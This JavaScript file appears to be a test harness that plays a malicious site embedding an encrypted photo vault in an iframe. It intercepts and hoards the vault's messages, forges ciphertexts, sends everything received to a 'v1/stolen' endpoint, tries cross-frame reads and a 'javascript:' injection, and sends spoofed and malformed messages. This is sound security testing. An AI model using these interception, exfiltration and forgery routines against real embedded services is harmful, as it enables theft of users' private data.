// A site that embeds the vault and wants the photos. It speaks the element's part itself, so that it sees every message
// and every byte that the vault hands out, and it keeps all of them.

const frame = document.createElement('iframe');
const heard = []; // everything received from the vault, including Blobs
let port;
let next = 1;
let vault;
let said = 0; // how often the vault said that it is ready

/** Embeds the vault, in a frame with these properties, and connects to it. */
window.embed = async (more = {}) => {
  Object.assign(frame, more);
  vault = new URL((await (await fetch('v1')).json()).vault);
  addEventListener('message', ({ source, data }) => {
    heard.push(data);
    note(data);
    if (source !== frame.contentWindow || data?.op !== 'ready' || said++ > 0) return;
    const channel = new MessageChannel();
    port = channel.port1;
    port.onmessage = ({ data: message }) => hear(message);
    frame.contentWindow.postMessage({ safelight: 1, op: 'connect' }, '*', [channel.port2]);
    window.task({ task: 'filter', filter: 'mean', params: { radius: '1' } });
  });
  frame.id = 'vault';
  frame.width = 900;
  frame.height = 1200;
  frame.src = vault;
  document.querySelector('main').append(frame);
};

/** The last height that the vault has reported. */
window.height = () => heard.findLast((message) => message?.op === 'height')?.args.pixels;

window.send = (message) => port.postMessage(message);
window.task = (args) => port.postMessage({ v: 1, op: 'task', args });
window.open_ = (file) => port.postMessage({ v: 1, op: 'open', args: { file } });

let answer = null; // if set, replaces the server's answer
window.answerWith = (bytes) => (answer = bytes && new Blob([Uint8Array.from(bytes)]));
let forged = null; // the name of the forgery to apply to the server's answer
window.forge = (name) => (forged = name);
let front = null; // the public part of a network that this site has made
window.frontIs = (bytes) => (front = new Blob([Uint8Array.from(bytes)]));

let uploaded; // the last encrypted photo

// The operations that the element offers to the vault.
const transport = {
  async exchange({ method, path, headers, body }) {
    const asked = path.startsWith('v1/classifiers/');
    if (path.startsWith('v1/filters/')) uploaded = body;
    if (path.startsWith('v1/models/') && front) return { status: 200, body: front };
    // Whichever network the vault asks for, the server's one network answers.
    const target = asked ? path.replace(/^v1\/classifiers\/[^?]*/, 'v1/classifiers/cifar10') : path;
    const direct = headers.filter(([name]) => name !== 'Prefer');
    const honest = await fetch(target, { method, headers: direct, body });
    const [location, offset] = [honest.headers.get('Location') ?? undefined, Number(honest.headers.get('Upload-Offset') ?? 0)];
    let reply = await honest.blob();
    if (method === 'POST' && (asked || path.startsWith('v1/filters/'))) {
      if (answer) return { status: 200, body: answer };
      if (forged && !asked) reply = await forgery(reply, forged);
    }
    return { status: honest.status, location, offset, body: reply };
  },
};

window.transport = transport;

async function hear(message) {
  heard.push(message);
  note(message);
  if (message.op === 'ready') document.documentElement.dataset.ready = 'yes';
  if (!Object.hasOwn(transport, message.op)) return;
  const { id, op, args } = message;
  const answer = await transport[op](args).then((value) => ({ value }), (error) => ({ error })); // prettier-ignore
  port.postMessage({ v: 1, id, ...answer });
}

// ---- forged images

/** Hands the vault an encrypted image: the last photo, or a forgery of it. */
window.offer = async (name) => window.open_(name ? await forgery(uploaded, name) : uploaded);

// They change the second row, since the first one may be halo, which is not shown.
const forgeries = {
  /** Valid ciphertexts, but not the right ones: only the key can detect that. */
  swapped: ({ rows: [, { cells }] }) => ([cells[1], cells[2]] = [cells[2], cells[1]]),
  'swapped at the end': ({ rows }) => rows.at(-2).cells.reverse(),
  /** The same ciphertext everywhere. */
  repeated: ({ rows }) => rows.forEach(({ cells }) => cells.fill(cells[0])),
  /** Nothing that could be a ciphertext. */
  zeroed: ({ rows: [, { cells }] }) => cells.fill(new Uint8Array(cells[0].length)),
  /** A bound on the numbers: the image would open only if all are below it. */
  bounded: ({ header }) => header.setBigInt64(32, 90n, true),
  /** Without the mark by which the key recognises its own photos: nothing would be checked. */
  anonymous: ({ header, bits }) => new Uint8Array(header.buffer, header.byteOffset + 73 + bits / 8, 32).fill(0),
};

async function forgery(blob, name) {
  const bytes = new Uint8Array(await blob.arrayBuffer());
  const view = new DataView(bytes.buffer);
  const start = 20 + view.getUint32(12, true);
  const header = new DataView(bytes.buffer, 16, start - 20);
  const [bits, width, height] = [header.getUint16(0, true), header.getUint32(4, true), header.getUint32(8, true)];
  const [across, down, left, above] = [12, 14, 16, 18].map((at) => header.getUint16(at, true));
  const [columns, lines, size] = [Math.ceil(width / across) + 2 * left, Math.ceil(height / down) + 2 * above, bits / 4];
  const rows = Array.from({ length: lines }, (_, row) => {
    const from = start + row * (columns * size + 4);
    return { from, cells: Array.from({ length: columns }, (_, i) => bytes.slice(from + i * size, from + (i + 1) * size)) };
  });
  forgeries[name]({ header, bits, rows });
  view.setUint32(start - 4, crc32([bytes.subarray(0, start - 4)]), true);
  for (const [row, { from, cells }] of rows.entries()) {
    cells.forEach((cell, i) => bytes.set(cell, from + i * size));
    const data = [bytes.subarray(start - 4, start), Uint8Array.of(row, 0, 0, 0), ...cells];
    view.setUint32(from + columns * size, crc32(data), true);
  }
  return new Blob([bytes], { type: blob.type });
}

function crc32(parts) {
  let crc = ~0;
  for (const byte of parts.flatMap((part) => [...part])) {
    crc ^= byte;
    for (let bit = 0; bit < 8; bit++) crc = (crc >>> 1) ^ (0xedb88320 & -(crc & 1));
  }
  return ~crc >>> 0;
}

// ---- everything that can be observed from outside

let watched; // { messages, heights }, in order of arrival, and the phases reported of the current photo
let numbers; // of the requests, in order of arrival

window.watch = () => {
  watched = { messages: [], heights: [], phases: new Set() };
  numbers = new Map();
};
window.watched = () => watched;
window.answered = (id) => heard.filter((message) => message?.id === id).length;
window.progress = () => heard.filter((message) => message?.op === 'progress').map(({ args }) => args);
for (const type of ['focus', 'blur']) addEventListener(type, () => watched?.messages.push(type));

/**
 * Records a message with its whole content, except for parts that depend only on time (numbers, and how often progress is
 * reported) and parts that came from this site (the server's replies, the network's name and the id of keys).
 */
function note(message) {
  if (!watched) return;
  if (message?.op === 'height') return void watched.heights.push(message.args.pixels);
  const { id, ...rest } = message;
  if (id !== undefined && !numbers.has(id)) numbers.set(id, numbers.size);
  if (rest.op === 'progress') rest.args = { phase: rest.args.phase, left: typeof rest.args.secondsLeft };
  if (rest.op === 'exchange') {
    const path = rest.args.path.replace(/(models|classifiers|keys)\/[\w-]+/, '$1/…').replace(/keys=.*/, 'keys=…');
    rest.args = { ...rest.args, path };
  }
  const blob = (name, { size, type }) => (name === 'reply' ? 'what the site gave' : `${size} bytes of ${type}`);
  const plain = (name, value) => (value instanceof Blob ? blob(name, value) : value);
  const text = JSON.stringify({ ...rest, number: numbers.get(id) }, plain);
  // How often a phase is reported, and whether its last report comes before or after a request, depends on the network.
  if (rest.op === 'done') watched.phases.clear();
  if (rest.op === 'progress' && watched.phases.has(text)) return;
  if (rest.op === 'progress') watched.phases.add(text);
  watched.messages.push(text);
}

/** Sends everything received to the network, as a thief would. */
window.steal = async () => {
  const blobs = [];
  const text = JSON.stringify(heard, (_, value) => (value instanceof Blob ? (blobs.push(value), 'a Blob') : value));
  for (const part of [text, ...blobs]) await fetch('v1/stolen', { method: 'POST', body: part });
  return heard.length;
};

window.heard = (op) => heard.filter((message) => message?.op === op).map(({ args }) => JSON.parse(JSON.stringify(args)));

/** Tries everything that a page can try on a frame and on this browser's storage. Returns its finds, by name. */
window.grab = async () => {
  const got = {};
  const attempt = async (name, act) => {
    try {
      const value = await act();
      if (value !== undefined && value !== null && value !== false) got[name] = String(value).slice(0, 200);
    } catch {
      // refused
    }
  };
  const inner = frame.contentWindow;
  await attempt('contentDocument', () => frame.contentDocument);
  await attempt('document', () => inner.document);
  await attempt('body', () => inner.document.body.innerHTML);
  await attempt('location', () => inner.location.href);
  await attempt('storage', () => inner.localStorage);
  await attempt('database', () => inner.indexedDB);
  await attempt('caches', () => inner.caches);
  await attempt('eval', () => inner.eval('1'));
  await attempt('name', () => inner.name);
  await attempt('a script', () => (inner.location = 'javascript:alert(1)') && null);
  await attempt('own databases', async () => (await indexedDB.databases()).map(({ name }) => name).join() || null);
  await attempt('own caches', async () => (await caches.keys()).join() || null);
  await attempt('own storage', () => Object.keys(localStorage).join() || null);
  await attempt(
    'a worker',
    () =>
      new Promise((started, refused) => {
        const worker = new Worker(new URL('client/keeper.js', vault), { type: 'module' });
        worker.onmessage = () => started('it runs');
        worker.onerror = refused;
        worker.postMessage({ v: 1, id: 1, op: 'keys', args: {} });
        setTimeout(refused, 2000);
      }),
  );
  await attempt('the script', async () => (await fetch(new URL('client/keeper.js', vault))).text());
  await attempt('the module', () => import(new URL('client/keeper.js', vault).href));
  await attempt('its service worker', () => navigator.serviceWorker.register(new URL('sw.js', vault)));
  await attempt('the ring’s news', () => {
    const news = new BroadcastChannel('safelight-ring');
    news.postMessage({ deleted: 'x' });
    return null;
  });
  return got;
};

/** Messages that no honest element sends; each must be dropped. */
window.nonsense = () => {
  const messages = [
    null,
    'exportKey',
    { v: 99, op: 'task', args: {} },
    { v: 1, op: 'exportKey', id: 1, args: {} },
    { v: 1, op: 'saveKey', args: {} },
    { v: 1, op: 'constructor', args: {} },
    { v: 1, op: '__proto__', id: 2, args: {} },
    { v: 1, id: 'x', op: 'task', args: {} },
    { v: 1, op: 'task', args: null },
    { v: 1, op: 'task', args: { filter: 5 } },
    { v: 1, op: 'task', args: { filter: 'x'.repeat(20_000) } },
    { v: 1, op: 'task', args: { filter: 'mean', params: { radius: {} } } },
    { v: 1, op: 'task', args: { filter: 'mean', border: 'no such' } },
    { v: 1, op: 'open', args: { file: 'not a Blob' } },
    { v: 1, id: 7, value: { file: 'an answer that nobody asked for' } },
    { v: 1, id: 1, progress: 'x' },
  ];
  for (const message of messages) port.postMessage(message);
};

/** Sends messages to the vault from another window on this page. */
window.spoof = () => {
  const { port2 } = new MessageChannel();
  frame.contentWindow.postMessage({ safelight: 1, op: 'connect' }, '*', [port2]);
};

window.navigate = (tail) => (frame.src = new URL(tail, vault));
